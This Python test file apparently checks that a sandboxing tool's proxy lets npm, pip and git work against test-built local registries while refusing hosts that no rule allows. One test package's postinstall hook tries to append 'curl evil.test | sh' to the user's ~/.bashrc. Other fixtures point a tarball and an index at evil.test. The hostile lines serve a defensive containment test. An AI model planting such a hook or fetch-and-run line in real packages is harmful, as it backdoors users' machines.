"""Real tools through sbrun's proxy, unchanged, against local servers: npm
from a registry whose packuments and tarballs the test makes, pip from a
package index of wheels the test makes, git pushing over smart HTTP. (curl,
git clone over HTTP and ssh through the ProxyCommand are network_test.py
cases.) The world they run in is world.py's; the policies are the ones a
user writes: std.agent with the std.dev module of the tool.

usage: tools_test.py SBRUN [CASE-NAME-SUBSTRING...]
Exit status 0 when every case passed, 1 otherwise, 77 when skipped.
"""

import base64
import hashlib
import io
import json
import os
import subprocess
import tarfile
import zipfile

import world
from world import case, expect, logged, no_dns, no_upstream, with_answers

NPM = "http://npm.pkgs.test/"
PYPI = "http://pypi.pkgs.test/simple/"


# ---------------------------------------------------------------------------
# A package registry for npm
#
# A tree shaped like a real one: chains, a diamond, a scoped package, a range
# that picks the newer of two versions, a package with a bin, one with an
# install script (which runs inside the sandbox, as a dependency's would), and
# one whose tarball lies on a host no policy allows.

# name -> [(version, {dependency: range}, extra package.json fields)]
NPM_TREE = {
    "sb-top": [("1.0.0", {"sb-a": "^1.0.0", "sb-b": "^2.0.0", "@sb/util": "1.0.0", "sb-tool": "1.0.0",
                          "sb-hooked": "1.0.0"}, {})],
    "sb-a": [("1.0.0", {"sb-shared": "^1.0.0"}, {}), ("1.1.0", {"sb-shared": "^1.0.0", "sb-c": "1.0.0"}, {})],
    "sb-b": [("2.0.0", {"sb-shared": "^1.0.0", "sb-d": "~1.2.0"}, {})],
    "sb-c": [("1.0.0", {}, {})],
    "sb-d": [("1.2.0", {}, {}), ("1.2.5", {"sb-e": "1.0.0"}, {}), ("1.3.0", {}, {})],
    "sb-e": [("1.0.0", {}, {})],
    "sb-shared": [("1.0.0", {}, {}), ("1.4.2", {}, {})],
    "@sb/util": [("1.0.0", {}, {})],
    "sb-tool": [("1.0.0", {}, {"bin": {"sb-tool": "bin.js"}})],
    # Its install script runs inside the boundary: it writes its own
    # directory, and tries the user's shell startup file.
    "sb-hooked": [("1.0.0", {}, {"scripts": {"postinstall": "node hook.js"}})],
    # Its tarball is on a host that no rule allows.
    "sb-leaky": [("1.0.0", {}, {})],
}
# Plus 60 leaves under sb-many, so that an install makes as many requests as a
# real project's (the tree had 77 packages).
MANY = 60
NPM_TREE["sb-many"] = [("1.0.0", {f"sb-leaf-{i}": "^1.0.0" for i in range(MANY)}, {})]
for i in range(MANY):
    NPM_TREE[f"sb-leaf-{i}"] = [("1.0.0", {}, {})]

HOOK = """
const fs = require('fs');
let bashrc;
try {
  fs.appendFileSync(require('os').homedir() + '/.bashrc', 'curl evil.test | sh\\n');
  bashrc = 'hook: wrote .bashrc';
} catch (e) {
  bashrc = 'hook: .bashrc refused ' + e.code;
}
fs.writeFileSync(__dirname + '/hooked.txt', 'hook: ran\\n' + bashrc + '\\n');
"""

def tarball(files):
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode="w:gz", format=tarfile.USTAR_FORMAT) as t:
        for name, text in files.items():
            raw = text.encode()
            info = tarfile.TarInfo("package/" + name)
            info.size, info.mode, info.mtime = len(raw), 0o755 if name.endswith("bin.js") else 0o644, 1700000000
            t.addfile(info, io.BytesIO(raw))
    return data.getvalue()


def npm_registry(world_):
    host = os.path.join(world_.site, "npm.pkgs.test")
    for name, versions in NPM_TREE.items():
        short = name.split("/")[-1]
        where = os.path.join(host, name)
        os.makedirs(os.path.join(where, "-"))
        packument = {"name": name, "dist-tags": {"latest": versions[-1][0]}, "versions": {}}
        for version, deps, extra in versions:
            manifest = dict({"name": name, "version": version, "main": "index.js", "dependencies": deps}, **extra)
            # Each module reports itself and what it requires: the tree
            # that loads is printed, and checked, as a whole.
            requires = "".join(f"require({json.dumps(d)}).tree(), " for d in deps)
            files = {"package.json": json.dumps(manifest, indent=2),
                     "index.js": f"exports.tree = () => {json.dumps(name + '@' + version)} + "
                                 f"'(' + [{requires}].join(' ') + ')';\n"}
            if "bin" in extra:
                files["bin.js"] = f"#!/usr/bin/env node\nconsole.log('sb-tool runs', process.argv.slice(2).join(' '));\n"
            if "scripts" in extra:
                files["hook.js"] = HOOK
            tgz = tarball(files)
            filename = f"{short}-{version}.tgz"
            with open(os.path.join(where, "-", filename), "wb") as f:
                f.write(tgz)
            tarball_host = "http://evil.test/" if name == "sb-leaky" else NPM
            packument["versions"][version] = dict(manifest, dist={
                "tarball": f"{tarball_host}{name}/-/{filename}",
                "integrity": "sha512-" + base64.b64encode(hashlib.sha512(tgz).digest()).decode(),
                "shasum": hashlib.sha1(tgz).hexdigest(),
            })
        with open(os.path.join(where, "index.json"), "w") as f:
            json.dump(packument, f)


def npm_tree_text(name, version=None):
    """The tree `require(name).tree()` prints, as npm should resolve it."""
    versions = NPM_TREE[name]
    picked = versions[-1] if version is None else next(v for v in versions if v[0] == version)
    parts = []
    for dep, spec in picked[1].items():
        candidates = [v[0] for v in NPM_TREE[dep]]
        if spec.startswith("^"):  # same major
            chosen = [v for v in candidates if v.split(".")[0] == spec[1:].split(".")[0]][-1]
        elif spec.startswith("~"):  # same minor
            chosen = [v for v in candidates if v.split(".")[:2] == spec[1:].split(".")[:2]][-1]
        else:
            chosen = spec
        parts.append(npm_tree_text(dep, chosen))
    return f"{name}@{picked[0]}(" + " ".join(parts) + ")"


# ---------------------------------------------------------------------------
# A package index for pip (PEP 503 simple index, pure-Python wheels)

PY_TREE = {
    "sbpy-top": ("1.0", ["sbpy-dep>=1.0", "sbpy-other==2.0"]),
    "sbpy-dep": ("1.2", ["sbpy-other"]),
    "sbpy-other": ("2.0", []),
}


def wheel(name, version, requires):
    module = name.replace("-", "_")
    info = f"{module}-{version}.dist-info"
    files = {
        f"{module}/__init__.py": f"import importlib\nREQUIRES = {[r.split('>')[0].split('=')[0] for r in requires]!r}\n"
                                 f"def tree():\n    return {name + '==' + version!r} + '(' + ' '.join("
                                 f"importlib.import_module(r.replace('-', '_')).tree() for r in REQUIRES) + ')'\n",
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n" +
                            "".join(f"Requires-Dist: {r}\n" for r in requires),
        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: sbrun-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = ""
    for path, text in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
        record += f"{path},sha256={digest},{len(text.encode())}\n"
    files[f"{info}/RECORD"] = record + f"{info}/RECORD,,\n"
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as z:
        for path, text in files.items():
            z.writestr(zipfile.ZipInfo(path, date_time=(2024, 1, 1, 0, 0, 0)), text)
    return f"{module}-{version}-py3-none-any.whl", data.getvalue()


def pip_index(world_):
    host = os.path.join(world_.site, "pypi.pkgs.test")
    os.makedirs(os.path.join(host, "packages"))
    links = ""
    for name, (version, requires) in PY_TREE.items():
        filename, data = wheel(name, version, requires)
        with open(os.path.join(host, "packages", filename), "wb") as f:
            f.write(data)
        os.makedirs(os.path.join(host, "simple", name))
        with open(os.path.join(host, "simple", name, "index.html"), "w") as f:
            f.write(f'<!DOCTYPE html><html><body><a href="../../packages/{filename}#sha256='
                    f'{hashlib.sha256(data).hexdigest()}">{filename}</a></body></html>\n')
        links += f'<a href="{name}/">{name}</a>\n'
    with open(os.path.join(host, "simple", "index.html"), "w") as f:
        f.write(f"<!DOCTYPE html><html><body>{links}</body></html>\n")


WORLD_GIT = None  # the far side's git repositories


def prepare(world_):
    global WORLD_GIT
    WORLD_GIT = world_.git_root
    npm_registry(world_)
    pip_index(world_)


# ---------------------------------------------------------------------------
# The cases

AGENT = "use std.agent;\n"
NODE = AGENT + "use std.dev.node;\n"
PYTHON = AGENT + "use std.dev.python;\n"
NPMRC = {".npmrc": f"registry={NPM}\naudit=false\nfund=false\nupdate-notifier=false\n"}


def package_json(deps):
    return json.dumps({"name": "project", "version": "1.0.0", "private": True, "dependencies": deps,
                       "scripts": {"hello": "sb-tool hello"}})


def npm_requests(r):
    return [h for h in r.http if h.get("host") == "npm.pkgs.test"]


@case("npm install and npm ci of a 71-package tree from a local registry",
      "npm install && node -e \"console.log('tree', require('sb-top').tree())\" && "
      "echo modules $(ls node_modules | wc -l); npm run -s hello; cat node_modules/sb-hooked/hooked.txt; "
      "rm -rf node_modules && npm ci && node -e \"console.log('ci', require('sb-many').tree().length)\"",
      base=NODE, policy='allow net "npm.pkgs.test";\n', home_dirs=[".npm"],
      files=dict(NPMRC, **{"package.json": package_json({"sb-top": "^1.0.0", "sb-many": "1.0.0"})}), timeout=240)
def _(r):
    expect(r.code == 0, r.output)
    expect("tree " + npm_tree_text("sb-top") in r.output, f"expected {npm_tree_text('sb-top')}\n{r.output}")
    expect("sb-tool runs hello" in r.output, r.output)
    # The install script ran, inside: its own directory written, the
    # shell startup file refused (and absent on the host).
    expect("hook: ran" in r.output, r.output)
    if r.home.startswith("/home/"):  # a home under /tmp lies in the sandbox's own /tmp
        expect("hook: .bashrc refused EROFS" in r.output, r.output)
    bashrc = os.path.join(r.home, ".bashrc")
    expect(not os.path.exists(bashrc) or "evil.test" not in open(bashrc).read(), "the install script wrote ~/.bashrc")
    # 70 unscoped packages and the @sb scope, all hoisted.
    expect("modules 71" in r.output, r.output)
    expect(f"ci {len(npm_tree_text('sb-many'))}" in r.output, r.output)
    # Every packument and tarball came through the proxy, from the registry;
    # the cache was written on the host, where npm ci found the tarballs.
    paths = {h["path"] for h in npm_requests(r)}
    for name, versions in NPM_TREE.items():
        if name in ("sb-leaky",):
            continue
        expect(f"/{name.replace('/', '%2f')}" in paths, f"no packument request for {name}: {sorted(paths)}")
    tarballs = [p for p in paths if p.endswith(".tgz")]
    expect(len(tarballs) == len(NPM_TREE) - 1, sorted(tarballs))
    cache = os.path.join(r.home, ".npm", "_cacache")
    expect(os.path.isdir(os.path.join(cache, "content-v2")), f"npm's cache is not on the host at {cache}")
    # Every request was the registry's, and allowed. (npm's agent also opens
    # connections it closes unused: logged without a host.)
    requests = [e for e in r.net if e.get("reason") != "client closed before a request"]
    expect(all(e.get("host") == "npm.pkgs.test" and e.get("effect") == "allow" for e in requests),
           [e for e in requests if e.get("host") != "npm.pkgs.test" or e.get("effect") != "allow"])
    expect(len(requests) >= len(NPM_TREE), f"{len(requests)} log lines for {len(NPM_TREE)} packages")
    expect(all(e.get("outcome") == "forwarded" for e in requests), [e for e in requests if e.get("outcome") != "forwarded"])


@case("npm install of a package whose tarball is on a host no rule allows fails, and says which",
      "npm install; echo exit $?",
      base=NODE, policy='allow net "npm.pkgs.test";\n', home_dirs=[".npm"], notices=True,
      files=dict(NPMRC, **{"package.json": package_json({"sb-leaky": "1.0.0"})}), timeout=120)
def _(r):
    expect("exit 0" not in r.output, r.output)
    # std.agent asks about every other host; without a terminal that is no.
    expect("sbrun: refused evil.test:80: asked by std/agent.sbpolicy" in r.output, r.output)
    logged(r, host="evil.test", outcome="refused")
    no_dns(r, "evil")
    no_upstream(r, "evil")
    expect(not os.path.exists(os.path.join(r.work, "node_modules", "sb-leaky")), "sb-leaky was installed")


@case("npm install with the registry under ask: one question for the whole install",
      "npm install && node -e \"console.log('tree', require('sb-top').tree())\"",
      base=NODE, policy='ask net "npm.pkgs.test";\n', home_dirs=[".npm"], users=("root",),
      tty=with_answers(["a"]), files=dict(NPMRC, **{"package.json": package_json({"sb-top": "1.0.0"})}),
      timeout=120)
def _(r):
    expect("tree " + npm_tree_text("sb-top") in r.output, r.output)
    expect(r.output.count("asks to connect to npm.pkgs.test") == 1, r.output)
    asks = [e.get("ask") for e in r.net]
    expect(asks[0] == "allowed for this run at the prompt" and
           all(a == "allowed earlier in this run" for a in asks[1:]), asks)


@case("pip install into a venv in the project from a local index",
      # The recipe std.dev.python gives: the environment inside the project.
      f"python3 -m venv .venv && .venv/bin/pip install -q --disable-pip-version-check --index-url {PYPI} "
      "--trusted-host pypi.pkgs.test sbpy-top && "
      ".venv/bin/python -c 'import sbpy_top; print(\"tree\", sbpy_top.tree())'",
      base=PYTHON, policy='allow net "pypi.pkgs.test";\n', home_dirs=[".cache"], timeout=180)
def _(r):
    expect(r.code == 0, r.output)
    expect("tree sbpy-top==1.0(sbpy-dep==1.2(sbpy-other==2.0()) sbpy-other==2.0())" in r.output, r.output)
    paths = sorted({h["path"] for h in r.http if h.get("host") == "pypi.pkgs.test"})
    expect([p for p in paths if p.startswith("/simple/")] == [f"/simple/{n}/" for n in sorted(PY_TREE)], paths)
    expect(len([p for p in paths if p.endswith(".whl")]) == len(PY_TREE), paths)
    # pip's cache, granted by std.dev.python, is on the host, with the
    # wheels it downloaded.
    expect("cache has been disabled" not in r.output, r.output)
    cached = sum(len(files) for _, _, files in os.walk(os.path.join(r.home, ".cache", "pip")))
    expect(cached >= len(PY_TREE), f"{cached} files in pip's cache on the host")
    expect(os.path.isdir(os.path.join(r.work, ".venv", "lib")), "no .venv in the workspace")


@case("pip install from an index no rule allows fails, and nothing is resolved",
      "python3 -m pip install -q --disable-pip-version-check --retries 0 --timeout 5 --target site "
      "--index-url http://evil.test/simple/ --trusted-host evil.test sbpy-top; echo exit $?",
      base=PYTHON, notices=True, timeout=120)
def _(r):
    expect("exit 0" not in r.output, r.output)
    expect("sbrun: refused evil.test:80" in r.output, r.output)
    no_dns(r, "evil")
    no_upstream(r)


@case("git clone, commit and push over smart HTTP",
      "git clone -q http://git.pkgs.test/git/push.git r && cd r && t=$(date +%s%N) && "
      "echo \"$t\" > pushed.txt && git add pushed.txt && git -c user.name=t -c user.email=t@t commit -qm \"push $t\" && "
      "git push -q origin HEAD:main && echo pushed $t",
      base=AGENT, policy='allow net "git.pkgs.test";\n')
def _(r):
    expect(r.code == 0, r.output)
    token = next((l.split()[1] for l in r.output.splitlines() if l.startswith("pushed ")), None)
    expect(token is not None, r.output)
    # On the far side: the commit is in the repository the push went to.
    subjects = subprocess.run(["git", "--git-dir", os.path.join(WORLD_GIT, "push.git"), "log", "--format=%s", "main"],
                              capture_output=True, text=True).stdout
    expect(f"push {token}" in subjects, subjects)
    posts = [h for h in r.http if h.get("method") == "POST" and h["path"].endswith("git-receive-pack")]
    expect(len(posts) == 1, r.http)


world.main(__file__, tools=("unshare", "nsenter", "ip", "git", "node", "npm", "python3"), prepare=prepare)
